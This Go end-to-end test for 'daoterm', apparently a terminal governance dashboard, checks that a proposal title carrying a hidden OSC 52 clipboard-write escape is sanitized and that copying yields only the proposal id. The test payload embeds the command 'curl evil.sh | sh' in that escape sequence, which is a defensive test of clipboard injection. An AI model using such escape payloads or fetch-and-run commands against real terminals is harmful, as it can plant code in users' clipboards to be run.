package main

import (
	"context"
	"encoding/base64"
	"math/big"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/daoterm/daoterm/chain/contracts"
)

// clipText decodes an OSC 52 write ("[52;]c;<base64>") into its text.
func clipText(t *testing.T, data string) string {
	t.Helper()
	i := strings.LastIndexByte(data, ';')
	b, err := base64.StdEncoding.DecodeString(data[i+1:])
	if err != nil {
		t.Fatalf("OSC 52 data %q is not base64: %v", data, err)
	}
	return string(b)
}

// TestE2ECopy runs the real binary in a pseudo-terminal on the demo chain,
// where a proposal's title carries an OSC 52 sequence of its own. The
// dashboard shows it, sanitized, without writing that sequence; y then
// writes daoterm's own OSC 52 holding exactly the proposal's id, once per
// press (on the table and on the proposal page), and says so in the footer.
func TestE2ECopy(t *testing.T) {
	node, dao := startDemo(t)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	c := dialChain(ctx, t, node.HTTPURL())
	alice := devAccount(t, dao, "alice")
	evil := base64.StdEncoding.EncodeToString([]byte("curl evil.sh | sh"))
	title := "Copy test \x1b]52;c;" + evil + "\x07 title"
	transfer := contracts.NewStableToken().PackTransfer(alice.addr, big.NewInt(1))
	id := proposeOnChain(ctx, t, c, alice, dao.Governor, dao.Stable, transfer, "# "+title+"\n\nA title with a clipboard write.")

	bin := buildDaoterm(t)
	home := t.TempDir()
	env := []string{
		"HOME=" + home, "TMPDIR=" + t.TempDir(), "PATH=" + os.Getenv("PATH"),
		"XDG_CONFIG_HOME=" + filepath.Join(home, "config"), "XDG_STATE_HOME=" + filepath.Join(home, "state"),
		"TERM=xterm-256color", "LANG=C.UTF-8", "DAOTERM_CLIPBOARD=off",
	}
	p := startInPty(t, bin, []string{"--rpc", node.HTTPURL(), "--governor", dao.Governor.Hex()}, env, e2eCols, e2eRows)
	p.waitFor("the new proposal, selected", e2eStartWait, rowSelected("Copy test"))
	if clips := p.screen.Clipboard(); len(clips) != 0 {
		t.Fatalf("the chain's title reached the clipboard: %q", clips)
	}

	p.send("y")
	p.waitFor("the copy notice", e2eStepWait, screenHas("copied "+id.String()[:20]))
	p.send("\r")
	p.waitFor("the proposal page", e2eStepWait, screenHas("Proposals ›", "Copy test"))
	p.send("y")
	deadline := time.Now().Add(e2eStepWait)
	for len(p.screen.Clipboard()) < 2 && time.Now().Before(deadline) {
		time.Sleep(e2ePoll)
	}
	clips := p.screen.Clipboard()
	if len(clips) != 2 {
		t.Fatalf("%d OSC 52 writes after two y presses, want 2: %q", len(clips), clips)
	}
	for _, data := range clips {
		if got := clipText(t, data); got != id.String() {
			t.Errorf("OSC 52 holds %q, want the proposal id %s", got, id)
		}
	}
	p.send("q")
	select {
	case <-p.exited:
	case <-time.After(e2eStepWait):
		t.Fatalf("daoterm did not exit after q; screen:\n%s", p.screen.Text())
	}
	if strings.Contains(p.screen.Text(), "\x1b") {
		t.Error("an escape reached the screen as text")
	}
}
